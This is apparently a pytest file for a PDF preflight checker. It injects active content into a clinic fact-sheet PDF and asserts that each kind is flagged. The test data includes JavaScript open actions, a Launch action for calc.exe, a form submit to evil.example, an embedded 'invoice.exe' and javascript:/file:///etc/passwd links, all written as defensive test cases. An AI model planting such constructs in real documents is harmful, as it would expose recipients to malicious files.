"""Rules of the last door: no PDF leaves that does anything by itself."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from carepress.preflight import actions
from carepress.preflight.proof import Finished
from tests.support.proofs import MANUSCRIPT, proofs

TEXT = """---
title: Asthma
formats: [fact-sheet]
---

## What is asthma?

Call [the clinic](tel:3125550142), write to [the desk](mailto:desk@clinic.example), or read [more](https://nhs.uk).
"""
RUNS = "there is a program (JavaScript), a form or an action in the file that runs or opens something"
CARRIES = "the file carries another file in it"
NOTE = "there is a note, a film or a field on a page"
SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert('x')"))

Change = Callable[[pikepdf.Pdf], object]


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> Finished:
    _, _, (finished,) = proofs(tmp_path_factory.mktemp("clinic"), {MANUSCRIPT: TEXT})
    return finished


def faults(finished: Finished, change: Change) -> list[str]:
    pdf, out = pikepdf.open(BytesIO(finished.pdf)), BytesIO()
    change(pdf)
    pdf.save(out)
    changed = replace(finished, pdf=out.getvalue())
    return [fault.message.removeprefix(f"{finished.name}: ") for fault in actions.check_finished(changed)]


def link(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return next(note for page in pdf.pages for note in page.get("/Annots", ()) if "/A" in note)


def root(**entries: object) -> Change:
    return lambda pdf: [pdf.Root.__setattr__(name, value) for name, value in entries.items()]


def action(**entries: object) -> Change:
    return lambda pdf: setattr(link(pdf), "A", Dictionary(**entries))


def note(subtype: str) -> Change:
    def add(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0]
        page.Annots = Array([*page.get("/Annots", ()), Dictionary(Type=Name.Annot, Subtype=Name(subtype))])

    return add


def orphan(pdf: pikepdf.Pdf) -> None:
    """An action that nothing in the file uses, as far as anybody can see."""
    pdf.Root.Private = pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.Launch, F=String("calc.exe")))


def enclosed(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ")


FAULTS: dict[str, tuple[Change, list[str]]] = {
    "a script when it opens": (root(OpenAction=SCRIPT), [RUNS]),
    "a place to open at": (root(OpenAction=Array([])), [RUNS]),
    "scripts by name": (root(Names=Dictionary(JavaScript=Dictionary())), [RUNS]),
    "a script when it is printed": (root(AA=Dictionary(WP=SCRIPT)), [RUNS]),
    "a script on a page": (lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(O=SCRIPT)), [RUNS]),
    "a form": (root(AcroForm=Dictionary(Fields=Array([]))), [RUNS]),
    "a portfolio": (root(Collection=Dictionary()), [RUNS]),
    "a script in a link": (action(S=Name.JavaScript, JS=String("x")), [RUNS]),
    "a program in a link": (action(S=Name.Launch, F=String("calc.exe")), [RUNS]),
    "another file in a link": (action(S=Name.GoToR, F=String("\\\\host\\share")), [RUNS]),
    "a form that is sent": (action(S=Name.SubmitForm, F=String("https://evil.example")), [RUNS]),
    "a film": (action(S=Name.Rendition), [RUNS]),
    "an action after a link": (action(S=Name.URI, URI=String("https://nhs.uk"), Next=SCRIPT), [RUNS]),
    "an action that nothing uses": (orphan, [RUNS]),
    "an enclosed file": (enclosed, [CARRIES]),
    "an enclosed file by name": (root(Names=Dictionary(EmbeddedFiles=Dictionary())), [CARRIES]),
    "a file as a note": (note("/FileAttachment"), [NOTE]),
    "a film on the page": (note("/RichMedia"), [NOTE]),
    **{
        f"a link to {target}": (
            action(S=Name.URI, URI=String(target)),
            [f"a link in the file opens `{target}`, which is no web page, mail address or telephone"],
        )
        for target in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "sms:1", " https://a.example")
    },
}


def test_a_sound_file_has_links_and_no_fault(sound: Finished) -> None:
    with pikepdf.open(BytesIO(sound.pdf)) as pdf:
        targets = {str(one.A.URI) for page in pdf.pages for one in page.get("/Annots", ()) if "/A" in one}

    assert {"tel:3125550142", "mailto:desk@clinic.example", "https://nhs.uk"} <= targets
    assert faults(sound, lambda _: None) == []


@pytest.mark.parametrize("what", FAULTS)
def test_whatever_acts_in_the_file_is_told(what: str, sound: Finished) -> None:
    change, told = FAULTS[what]

    assert faults(sound, change) == told
